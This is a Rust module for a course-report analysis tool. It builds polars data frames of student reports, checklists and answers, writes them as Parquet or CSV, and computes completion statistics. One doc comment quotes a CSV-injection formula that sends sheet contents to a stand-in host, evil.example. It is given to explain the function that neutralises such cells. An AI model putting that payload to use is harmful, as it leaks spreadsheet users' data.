//! The polars frames: `reports` (one row per report), `checklist` (report × canonical item) and `answers`
//! (report × question), written as Parquet; and the statistics staff ask for, as polars queries over them.

use super::{Generation, Result, StoreError};
use crate::domain::template::{checklist_item, AnswerKey};
use crate::domain::{ExchangeRates, Report};
use polars::prelude::*;
use std::collections::HashSet;
use std::fs::File;
use std::path::Path;

pub const REPORTS: &str = "reports";
pub const CHECKLIST: &str = "checklist";
pub const ANSWERS: &str = "answers";
pub const ALL: [&str; 3] = [REPORTS, CHECKLIST, ANSWERS];

/// What the frames need to know of one ingested report.
#[derive(Debug, Clone, Copy)]
pub struct ReportRecord<'a> {
    pub id: &'a str,
    /// The file, relative to the folder it was ingested from.
    pub path: &'a str,
    pub cohort: &'a str,
    pub hash: &'a str,
    pub report: &'a Report,
    /// The report's JSON object (INTERFACE.md), kept so `cohort reports --json` prints what `parse` printed.
    pub summary_json: &'a str,
}

/// The three frames.
#[derive(Debug, Clone)]
pub struct Frames {
    pub reports: DataFrame,
    pub checklist: DataFrame,
    pub answers: DataFrame,
}

impl Frames {
    /// Appends another set of frames' rows (same columns) to these.
    pub fn append(&mut self, other: &Frames) -> PolarsResult<()> {
        self.reports.vstack_mut(&other.reports)?;
        self.checklist.vstack_mut(&other.checklist)?;
        self.answers.vstack_mut(&other.answers)?;
        Ok(())
    }
}

fn perr(path: &Path) -> impl FnOnce(PolarsError) -> StoreError + '_ {
    move |source| StoreError::Polars { path: path.to_path_buf(), source }
}

fn col_of<T, P: ?Sized>(name: &str, values: T) -> Column
where
    Series: NamedFrom<T, P>,
{
    Column::new(name.into(), values)
}

/// Sort key of a module tag ("M2+M6" → 2), so modules list in course order rather than as text.
fn module_order(tag: &str) -> Option<u32> {
    tag.trim_start_matches('M').split(|c: char| !c.is_ascii_digit()).next().and_then(|n| n.parse().ok())
}

/// Builds the frames of a set of reports.
pub fn build(records: &[ReportRecord<'_>], rates: &ExchangeRates) -> PolarsResult<Frames> {
    Ok(Frames {
        reports: reports_frame(records, rates)?,
        checklist: checklist_frame(records)?,
        answers: answers_frame(records)?,
    })
}

fn reports_frame(records: &[ReportRecord<'_>], rates: &ExchangeRates) -> PolarsResult<DataFrame> {
    let n = records.len();
    let mut id = Vec::with_capacity(n);
    let mut path = Vec::with_capacity(n);
    let mut cohort = Vec::with_capacity(n);
    let mut template = Vec::with_capacity(n);
    let mut generation = Vec::with_capacity(n);
    let mut group = Vec::with_capacity(n);
    let mut students = Vec::with_capacity(n);
    let mut n_students = Vec::with_capacity(n);
    let mut tests = Vec::with_capacity(n);
    let mut coverage = Vec::with_capacity(n);
    let mut credits_amount = Vec::with_capacity(n);
    let mut credits_unit = Vec::with_capacity(n);
    let mut credits_usd = Vec::with_capacity(n);
    let mut service = Vec::with_capacity(n);
    let mut items = Vec::with_capacity(n);
    let mut ticked = Vec::with_capacity(n);
    let mut questions = Vec::with_capacity(n);
    let mut answered = Vec::with_capacity(n);
    let mut warnings = Vec::with_capacity(n);
    let mut hash = Vec::with_capacity(n);
    let mut summary = Vec::with_capacity(n);
    // Provenance of the numeric facts: rule, line and sentence as written (null when the fact is).
    let mut provenance: Vec<ProvenanceColumns> =
        vec![(Vec::with_capacity(n), Vec::with_capacity(n), Vec::with_capacity(n)); PROVENANCE_FACTS.len()];
    for r in records {
        let p = &r.report.facts.provenance;
        for (k, fact) in [&p.group, &p.tests, &p.coverage, &p.credits].into_iter().enumerate() {
            provenance[k].0.push(fact.as_ref().map(|f| f.rule.as_str()));
            provenance[k].1.push(fact.as_ref().map(|f| f.line as u32));
            provenance[k].2.push(fact.as_ref().map(|f| f.sentence.clone()));
        }
        let f = &r.report.facts;
        id.push(r.id);
        path.push(r.path);
        cohort.push(r.cohort);
        template.push(r.report.questions.as_str());
        generation.push(r.report.generation.as_str());
        group.push(f.group);
        students.push(f.students.join(","));
        n_students.push(f.students.len() as u32);
        tests.push(f.tests);
        coverage.push(f.coverage);
        credits_amount.push(f.credits.map(|c| c.amount));
        credits_unit.push(f.credits.map(|c| c.unit.as_str()));
        credits_usd.push(f.credits.map(|c| rates.to_usd(c)));
        service.push(f.most_expensive_service.clone());
        items.push(r.report.checklist.iter().filter(|i| i.id.is_some()).count() as u32);
        ticked.push(r.report.checklist.iter().filter(|i| i.id.is_some() && i.done).count() as u32);
        questions.push(r.report.answers.iter().filter(|a| a.key.is_some()).count() as u32);
        answered.push(r.report.answers.iter().filter(|a| a.key.is_some() && a.answered).count() as u32);
        warnings.push(r.report.warnings.len() as u32);
        hash.push(r.hash);
        summary.push(r.summary_json);
    }
    let mut columns = vec![
        col_of("id", id),
        col_of("path", path),
        col_of("cohort", cohort),
        col_of("template", template),
        col_of("generation", generation),
        col_of("group", group),
        col_of("students", students),
        col_of("n_students", n_students),
        col_of("tests", tests),
        col_of("coverage", coverage),
        col_of("credits_amount", credits_amount),
        col_of("credits_unit", credits_unit),
        col_of("credits_usd", credits_usd),
        col_of("most_expensive_service", service),
        col_of("items", items),
        col_of("ticked", ticked),
        col_of("questions", questions),
        col_of("answered", answered),
        col_of("warnings", warnings),
        col_of("hash", hash),
        col_of("summary", summary),
    ];
    for (fact, (rule, line, sentence)) in PROVENANCE_FACTS.iter().zip(provenance) {
        columns.push(col_of(&format!("{fact}_rule"), rule));
        columns.push(col_of(&format!("{fact}_line"), line));
        columns.push(col_of(&format!("{fact}_sentence"), sentence));
    }
    DataFrame::new(n, columns)
}

/// The rule, line and sentence columns of one fact's provenance.
type ProvenanceColumns = (Vec<Option<&'static str>>, Vec<Option<u32>>, Vec<Option<String>>);

/// The facts whose provenance the reports frame keeps as `<fact>_rule`, `<fact>_line` and `<fact>_sentence`.
pub const PROVENANCE_FACTS: [&str; 4] = ["group", "tests", "coverage", "credits"];

fn checklist_frame(records: &[ReportRecord<'_>]) -> PolarsResult<DataFrame> {
    let mut id = Vec::new();
    let mut cohort = Vec::new();
    let mut group = Vec::new();
    let mut item = Vec::new();
    let mut item_order = Vec::new();
    let mut done = Vec::new();
    let mut state = Vec::new();
    let mut week = Vec::new();
    let mut week_order = Vec::new();
    let mut module = Vec::new();
    let mut module_ord = Vec::new();
    let mut section = Vec::new();
    let mut line = Vec::new();
    let mut text = Vec::new();
    for r in records {
        let mut seen = HashSet::new();
        for i in &r.report.checklist {
            // One row per canonical item the report's own checklist has; unrecognised items are warnings.
            let Some(cid) = i.id else { continue };
            if !seen.insert(cid) {
                continue;
            }
            id.push(r.id);
            cohort.push(r.cohort);
            group.push(r.report.facts.group);
            item.push(cid.as_str());
            item_order.push(cid as u32);
            done.push(i.done);
            state.push(i.state.as_str());
            week.push(i.week.map(|w| w.as_str()));
            week_order.push(i.week.map(|w| w as u32));
            let m = i.module.clone().or_else(|| checklist_item(cid).module.map(str::to_string));
            module_ord.push(m.as_deref().and_then(module_order));
            module.push(m);
            section.push(i.section.clone());
            line.push(i.line as u32);
            text.push(i.text.as_str());
        }
    }
    DataFrame::new(
        id.len(),
        vec![
            col_of("id", id),
            col_of("cohort", cohort),
            col_of("group", group),
            col_of("item", item),
            col_of("item_order", item_order),
            col_of("done", done),
            col_of("state", state),
            col_of("week", week),
            col_of("week_order", week_order),
            col_of("module", module),
            col_of("module_order", module_ord),
            col_of("section", section),
            col_of("line", line),
            col_of("text", text),
        ],
    )
}

fn answers_frame(records: &[ReportRecord<'_>]) -> PolarsResult<DataFrame> {
    let mut id = Vec::new();
    let mut cohort = Vec::new();
    let mut group = Vec::new();
    let mut question = Vec::new();
    let mut question_order = Vec::new();
    let mut number = Vec::new();
    let mut line = Vec::new();
    let mut words = Vec::new();
    let mut images = Vec::new();
    let mut links = Vec::new();
    let mut answered = Vec::new();
    let mut warnings = Vec::new();
    let mut markdown = Vec::new();
    let mut markdown_line = Vec::new();
    for r in records {
        let answers = &r.report.answers;
        // The warnings with a line, by line: each answer takes the run between its line and the next answer's
        // (a scan of all warnings per answer is quadratic: 400,000 bare headings took minutes).
        let mut by_line: Vec<(usize, usize)> =
            r.report.warnings.iter().enumerate().filter_map(|(i, w)| w.line.map(|l| (l, i))).collect();
        by_line.sort_unstable();
        for (k, a) in answers.iter().enumerate() {
            let next_line = answers.get(k + 1).map_or(usize::MAX, |n| n.line);
            let from = by_line.partition_point(|&(l, _)| l < a.line);
            let to = from + by_line[from..].partition_point(|&(l, _)| l < next_line);
            // In the report's own order, as before.
            let mut mine: Vec<usize> = by_line[from..to].iter().map(|&(_, i)| i).collect();
            mine.sort_unstable();
            let own: Vec<String> = mine.iter().map(|&i| r.report.warnings[i].to_string()).collect();
            id.push(r.id);
            cohort.push(r.cohort);
            group.push(r.report.facts.group);
            question.push(a.key.map_or("extra", AnswerKey::as_str));
            question_order.push(a.key.map_or(99, |k| k as u32));
            number.push(a.number);
            line.push(a.line as u32);
            words.push(a.words as u32);
            images.push(a.images.len() as u32);
            links.push(a.links.len() as u32);
            answered.push(a.answered);
            warnings.push(own.join("\n"));
            markdown.push(a.markdown.as_str());
            markdown_line.push(a.markdown_line as u32);
        }
    }
    DataFrame::new(
        id.len(),
        vec![
            col_of("id", id),
            col_of("cohort", cohort),
            col_of("group", group),
            col_of("question", question),
            col_of("question_order", question_order),
            col_of("number", number),
            col_of("line", line),
            col_of("words", words),
            col_of("images", images),
            col_of("links", links),
            col_of("answered", answered),
            col_of("warnings", warnings),
            col_of("markdown", markdown),
            col_of("markdown_line", markdown_line),
        ],
    )
}

/// Rows of the answers frame (one report's, as [`crate::Index::answers_of`] gives them) as the model's answers:
/// key, number, lines, markdown, answered (images and links are kept as counts only, so empty here). Enough to
/// read the facts again, e.g. to explain them.
pub fn answer_models(mine: &DataFrame) -> PolarsResult<Vec<crate::domain::Answer>> {
    let question = mine.column("question")?.str()?;
    let number = mine.column("number")?.u32()?;
    let line = mine.column("line")?.u32()?;
    let words = mine.column("words")?.u32()?;
    let answered = mine.column("answered")?.bool()?;
    let markdown = mine.column("markdown")?.str()?;
    // Frames written before `markdown_line` existed: the heading's line stands in.
    let markdown_line = mine.column("markdown_line").ok().and_then(|c| c.u32().ok().cloned());
    Ok((0..mine.height())
        .map(|i| crate::domain::Answer {
            key: question.get(i).and_then(AnswerKey::from_name),
            number: number.get(i),
            line: line.get(i).unwrap_or(0) as usize,
            prompt: String::new(),
            markdown: markdown.get(i).unwrap_or("").to_string(),
            words: words.get(i).unwrap_or(0) as usize,
            images: vec![],
            links: vec![],
            answered: answered.get(i).unwrap_or(false),
            markdown_line: markdown_line.as_ref().and_then(|c| c.get(i)).unwrap_or(0) as usize,
        })
        .collect())
}

/// Keeps the rows whose report id is not in `ids`.
pub fn without_ids(df: &DataFrame, ids: &HashSet<String>) -> PolarsResult<DataFrame> {
    if ids.is_empty() {
        return Ok(df.clone());
    }
    let col = df.column("id")?.str()?;
    let mask: BooleanChunked = col.iter().map(|v| Some(!v.is_some_and(|s| ids.contains(s)))).collect();
    df.filter(&mask)
}

/// Writes the frames into a generation.
pub fn write(generation: &Generation, frames: &mut Frames) -> Result<()> {
    for (name, df) in
        [(REPORTS, &mut frames.reports), (CHECKLIST, &mut frames.checklist), (ANSWERS, &mut frames.answers)]
    {
        let path = generation.frame_path(name);
        write_parquet(&path, df)?;
    }
    Ok(())
}

/// A frame written to a generation a part at a time (each part its own row groups), so that its rows need not all
/// be in memory at once: the answers frame holds every answer's text. Written straight into the generation's
/// folder, which goes live only once everything in it is written and checked.
pub struct FrameWriter {
    path: std::path::PathBuf,
    file: File,
    writer: polars::io::parquet::write::BatchedWriter<File>,
}

impl FrameWriter {
    /// Starts frame `name` of a generation with the columns of `like` (an empty frame of [`build`]'s).
    pub fn start(generation: &Generation, name: &str, like: &DataFrame) -> Result<FrameWriter> {
        let path = generation.frame_path(name);
        let file = File::create(&path).map_err(super::io_err(&path))?;
        let writer = file.try_clone().map_err(super::io_err(&path))?;
        let writer = ParquetWriter::new(writer).batched(like.schema()).map_err(perr(&path))?;
        Ok(FrameWriter { path, file, writer })
    }

    /// Appends rows (the columns of the frame started).
    pub fn write(&mut self, part: &DataFrame) -> Result<()> {
        if part.height() == 0 {
            return Ok(());
        }
        self.writer.write_batch(part).map_err(perr(&self.path))
    }

    /// Writes the file's footer and syncs it.
    pub fn finish(self) -> Result<()> {
        self.writer.finish().map_err(perr(&self.path))?;
        self.file.sync_all().map_err(super::io_err(&self.path))
    }
}

pub fn write_parquet(path: &Path, df: &mut DataFrame) -> Result<()> {
    write_whole(path, |file| ParquetWriter::new(file).finish(df).map(|_| ()))
}

/// [`super::write_whole`] for a polars writer.
fn write_whole(path: &Path, write: impl FnOnce(&mut File) -> PolarsResult<()>) -> Result<()> {
    super::write_whole(path, super::Access::Shared, |file, _| write(file).map_err(perr(path)))
}

/// Writes a frame as CSV to a file (see [`write_csv_to`]).
pub fn write_csv(path: &Path, df: &mut DataFrame) -> Result<()> {
    write_whole(path, |file| {
        let mut out = std::io::BufWriter::new(file);
        write_csv_to(&mut out, df)?;
        std::io::Write::flush(&mut out).map_err(PolarsError::from)
    })
}

/// Writes a frame as CSV with a header line: every CSV cohort writes goes through here. Text cells that a
/// spreadsheet would run as a formula are made inert (see [`spreadsheet_safe`]); Parquet keeps the text exact.
pub fn write_csv_to(out: &mut impl std::io::Write, df: &DataFrame) -> PolarsResult<()> {
    let mut cols = Vec::with_capacity(df.width());
    for c in df.columns() {
        if c.dtype() == &DataType::String {
            let safe: StringChunked = c.str()?.iter().map(|v| v.map(spreadsheet_safe)).collect();
            cols.push(safe.with_name(c.name().clone()).into_column());
        } else {
            cols.push(c.clone());
        }
    }
    let mut safe = DataFrame::new(df.height(), cols)?;
    CsvWriter::new(out).include_header(true).finish(&mut safe)
}

/// A text cell as a spreadsheet may show it: one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
/// would be run as a formula (a student's answer `=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet
/// away), so it gets a leading `'` (OWASP's rule for CSV injection).
pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// Reads one frame of a generation, checked against the generation's checksums as it is read.
pub fn read(generation: &Generation, name: &str) -> Result<DataFrame> {
    read_columns(generation, name, None)
}

/// Reads these columns (all with `None`) of one frame of a generation, checked as [`read`] checks.
pub fn read_columns(generation: &Generation, name: &str, columns: Option<&[&str]>) -> Result<DataFrame> {
    let path = generation.frame_path(name);
    let bytes = generation.read_checked(&format!("{name}.parquet"))?;
    ParquetReader::new(std::io::Cursor::new(bytes))
        .with_columns(columns.map(|c| c.iter().map(|c| c.to_string()).collect()))
        .finish()
        .map_err(perr(&path))
}

/// Reads all three frames.
pub fn read_all(generation: &Generation) -> Result<Frames> {
    Ok(Frames {
        reports: read(generation, REPORTS)?,
        checklist: read(generation, CHECKLIST)?,
        answers: read(generation, ANSWERS)?,
    })
}

crate::string_enum! {
    /// What checklist completion is grouped by.
    pub ChecklistBy { Item = "item", Week = "week", Module = "module", Cohort = "cohort" }
}

impl ChecklistBy {
    pub fn column(self) -> &'static str {
        match self {
            ChecklistBy::Item => "item",
            ChecklistBy::Week => "week",
            ChecklistBy::Module => "module",
            ChecklistBy::Cohort => "cohort",
        }
    }
    fn order_column(self) -> &'static str {
        match self {
            ChecklistBy::Item => "item_order",
            ChecklistBy::Week => "week_order",
            ChecklistBy::Module => "module_order",
            ChecklistBy::Cohort => "cohort",
        }
    }
}

crate::string_enum! {
    /// How a box marked partly done or unclear (`[~]`, `[?]`, ...) counts in rates.
    pub PartialTicks {
        /// Not done: only a plain done mark counts (the default).
        NotDone = "not-done",
        /// Done, as a plain done mark.
        Done = "done",
        /// Left out: neither done nor in the total.
        Skip = "skip",
    }
}

// Not derivable: the variants are declared by `string_enum!`, which takes no `#[default]`.
#[allow(clippy::derivable_impls)]
impl Default for PartialTicks {
    fn default() -> Self {
        PartialTicks::NotDone
    }
}

/// Filters on the rows statistics are computed over.
#[derive(Debug, Clone, Default)]
pub struct Scope {
    pub cohorts: Vec<String>,
    /// How partial and unclear ticks count in checklist rates.
    pub partial: PartialTicks,
}

/// Whether a checklist row's box is partial or unclear (false in frames written before tick states).
fn partial_state(df: &DataFrame) -> Expr {
    if df.column("state").is_ok() {
        col("state").eq(lit("partial")).or(col("state").eq(lit("unclear")))
    } else {
        lit(false)
    }
}

fn scoped(df: &DataFrame, scope: &Scope) -> LazyFrame {
    let mut lf = df.clone().lazy();
    if df.column("done").is_ok() {
        // Checklist rows: partial and unclear boxes count as the scope says.
        lf = lf.with_column(partial_state(df).alias("partial"));
        lf = match scope.partial {
            PartialTicks::NotDone => lf,
            PartialTicks::Done => lf.with_column(col("done").or(col("partial")).alias("done")),
            PartialTicks::Skip => lf.filter(col("partial").not()),
        };
    }
    if !scope.cohorts.is_empty() {
        let cond = scope
            .cohorts
            .iter()
            .map(|c| col("cohort").eq(lit(c.clone())))
            .reduce(|a, b| a.or(b))
            .unwrap_or_else(|| lit(true));
        lf = lf.filter(cond);
    }
    lf
}

/// Completion rates: done / total per group, where total counts the reports whose own checklist has the item.
/// Columns: the `by` columns, `done`, `total`, `rate`, `partial` (boxes marked partly done or unclear among them)
/// and `partial_as` (how those counted: [`PartialTicks`], from the scope).
pub fn checklist_completion(checklist: &DataFrame, by: &[ChecklistBy], scope: &Scope) -> PolarsResult<DataFrame> {
    let keys: Vec<Expr> = by.iter().map(|b| col(b.column())).collect();
    let orders: Vec<Expr> =
        by.iter().filter(|b| b.order_column() != b.column()).map(|b| col(b.order_column()).min()).collect();
    let mut aggs = vec![
        col("done").cast(DataType::UInt32).sum().alias("done"),
        len().cast(DataType::UInt32).alias("total"),
        col("partial").cast(DataType::UInt32).sum().alias("partial"),
    ];
    aggs.extend(orders);
    // Each key sorts by its order, then by its name: modules share an order ("M2" and "M2+M6"), and rows of one
    // key value must stay together and come out the same on every run.
    let sort_cols: Vec<PlSmallStr> = by
        .iter()
        .flat_map(
            |b| if b.order_column() == b.column() { vec![b.column()] } else { vec![b.order_column(), b.column()] },
        )
        .map(PlSmallStr::from)
        .collect();
    let mut out_cols: Vec<Expr> = by.iter().map(|b| col(b.column())).collect();
    out_cols.extend([
        col("done"),
        col("total"),
        col("rate"),
        col("partial"),
        lit(scope.partial.as_str()).alias("partial_as"),
    ]);
    scoped(checklist, scope)
        .group_by(keys)
        .agg(aggs)
        .with_column((col("done").cast(DataType::Float64) / col("total").cast(DataType::Float64)).alias("rate"))
        .sort(sort_cols, SortMultipleOptions::default().with_nulls_last(true))
        .select(out_cols)
        .collect()
}

/// Completion rates as a table of `rows` × the values of `columns` (e.g. items × cohorts): the key columns, then one
/// rate column per value of `columns` (null where no report of that value has the row's item), in value order.
pub fn checklist_pivot(
    checklist: &DataFrame,
    rows: &[ChecklistBy],
    columns: ChecklistBy,
    scope: &Scope,
) -> PolarsResult<DataFrame> {
    let mut by = rows.to_vec();
    by.push(columns);
    let long = checklist_completion(checklist, &by, scope)?;
    let values: Vec<String> = long
        .column(columns.column())?
        .cast(&DataType::String)?
        .str()?
        .iter()
        .flatten()
        .map(str::to_string)
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    let key = || col(columns.column()).cast(DataType::String);
    let spread: Vec<Expr> =
        values.iter().map(|v| col("rate").filter(key().eq(lit(v.clone()))).first().alias(v.as_str())).collect();
    let keys: Vec<Expr> = rows.iter().map(|b| col(b.column())).collect();
    // Rows stay in the order the long table has them (each key's own order).
    long.lazy().group_by_stable(keys).agg(spread).collect()
}

/// The numeric facts summarised: one row per fact with n, mean, sum, median, min, max (optionally per cohort).
pub const FACTS: [&str; 3] = ["tests", "coverage", "credits_usd"];

pub fn facts_summary(reports: &DataFrame, by_cohort: bool, scope: &Scope) -> PolarsResult<DataFrame> {
    let mut parts = Vec::new();
    for fact in FACTS {
        let x = || col(fact).cast(DataType::Float64);
        let aggs = [
            lit(fact).alias("fact"),
            x().count().cast(DataType::UInt32).alias("n"),
            x().mean().alias("mean"),
            // Beside the mean: staff ask "how many credits did a year spend" as often as "per group".
            x().sum().alias("sum"),
            x().median().alias("median"),
            x().min().alias("min"),
            x().max().alias("max"),
        ];
        let lf = scoped(reports, scope);
        let lf = if by_cohort {
            lf.group_by([col("cohort")]).agg(aggs).sort(["cohort"], Default::default()).select([
                col("fact"),
                col("cohort"),
                col("n"),
                col("mean"),
                col("sum"),
                col("median"),
                col("min"),
                col("max"),
            ])
        } else {
            lf.select(aggs)
        };
        parts.push(lf);
    }
    concat(parts, UnionArgs::default())?.collect()
}

/// Reports in scope per cohort: `cohort`, `reports`, `with_checklist` (reports whose checklist has a known item),
/// sorted by cohort. Figures say how many reports they cover from this.
pub fn report_counts(reports: &DataFrame, scope: &Scope) -> PolarsResult<DataFrame> {
    scoped(reports, scope)
        .group_by([col("cohort")])
        .agg([
            len().cast(DataType::UInt32).alias("reports"),
            col("items").gt(lit(0u32)).cast(DataType::UInt32).sum().alias("with_checklist"),
        ])
        .sort(["cohort"], Default::default())
        .collect()
}

/// How much of its own checklist each report ticked: one row per report in scope, with `id`, `cohort`, `group`,
/// `done`, `total` (items its checklist has) and `rate` (null for a report with no checklist). Sorted by rate,
/// highest first (then by ticks, then id, so the order is stable), reports with no checklist last; with
/// `by_cohort`, by cohort first.
pub fn report_completion(
    reports: &DataFrame,
    checklist: &DataFrame,
    by_cohort: bool,
    scope: &Scope,
) -> PolarsResult<DataFrame> {
    let per_report = scoped(checklist, scope)
        .group_by([col("id")])
        .agg([col("done").cast(DataType::UInt32).sum().alias("done"), len().cast(DataType::UInt32).alias("total")]);
    let rate = when(col("total").gt(lit(0u32)))
        .then(col("done").cast(DataType::Float64) / col("total").cast(DataType::Float64))
        .otherwise(lit(NULL).cast(DataType::Float64))
        .alias("rate");
    let mut sort_cols: Vec<PlSmallStr> = vec!["rate".into(), "done".into(), "id".into()];
    let mut descending = vec![true, true, false];
    if by_cohort {
        sort_cols.insert(0, "cohort".into());
        descending.insert(0, false);
    }
    scoped(reports, scope)
        .select([col("id"), col("cohort"), col("group")])
        .join(per_report, [col("id")], [col("id")], JoinArgs::new(JoinType::Left))
        .with_columns([col("done").fill_null(lit(0u32)), col("total").fill_null(lit(0u32))])
        .with_column(rate)
        .sort(sort_cols, SortMultipleOptions::default().with_order_descending_multi(descending).with_nulls_last(true))
        .collect()
}

/// The ticks of every report in scope: `id`, `item`, `done` (one row per canonical item its checklist has).
pub fn checklist_ticks(checklist: &DataFrame, scope: &Scope) -> PolarsResult<DataFrame> {
    scoped(checklist, scope).select([col("id"), col("item"), col("done")]).collect()
}

/// The numeric facts of every report in scope: `id`, `cohort`, `tests`, `coverage` and `credits_usd`, with credits
/// converted at `rates` (not at the rates of the ingest), so a figure can state and override the rate it used.
/// [`facts_summary`] summarises this frame as it does the reports frame.
pub fn fact_values(reports: &DataFrame, rates: &ExchangeRates, scope: &Scope) -> PolarsResult<DataFrame> {
    use crate::domain::{CreditUnit, CreditsSpent};
    // The factor of each unit comes from the domain's own conversion, so the two cannot disagree.
    let units = [CreditUnit::USD, CreditUnit::DKK, CreditUnit::EUR, CreditUnit::Credits];
    let factor = |unit| rates.to_usd(CreditsSpent { amount: 1.0, unit });
    let mut usd_per_unit = lit(NULL).cast(DataType::Float64);
    for unit in units {
        usd_per_unit = when(col("credits_unit").eq(lit(unit.as_str()))).then(lit(factor(unit))).otherwise(usd_per_unit);
    }
    scoped(reports, scope)
        .select([
            col("id"),
            col("cohort"),
            col("tests"),
            col("coverage"),
            (col("credits_amount").cast(DataType::Float64) * usd_per_unit).alias("credits_usd"),
        ])
        .collect()
}

/// Group numbers stated by more than one report of a cohort: `(cohort, group, report ids)`, sorted by cohort and
/// group, ids sorted. The same number in two cohorts is two different groups and is not listed.
pub fn shared_groups(reports: &DataFrame) -> PolarsResult<Vec<(String, u32, Vec<String>)>> {
    let shared = reports
        .clone()
        .lazy()
        .filter(col("group").is_not_null())
        .group_by([col("cohort"), col("group")])
        .agg([col("id").sort(SortOptions::default()).alias("ids"), len().alias("reports")])
        .filter(col("reports").gt(lit(1)))
        .sort(["cohort", "group"], SortMultipleOptions::default())
        .collect()?;
    let cohorts = shared.column("cohort")?.str()?;
    let groups = shared.column("group")?.u32()?;
    let ids = shared.column("ids")?.list()?;
    let mut out = Vec::with_capacity(shared.height());
    for i in 0..shared.height() {
        let (Some(cohort), Some(group), Some(ids)) = (cohorts.get(i), groups.get(i), ids.get_as_series(i)) else {
            continue;
        };
        let ids: Vec<String> = ids.str()?.iter().flatten().map(str::to_string).collect();
        out.push((cohort.to_string(), group, ids));
    }
    Ok(out)
}
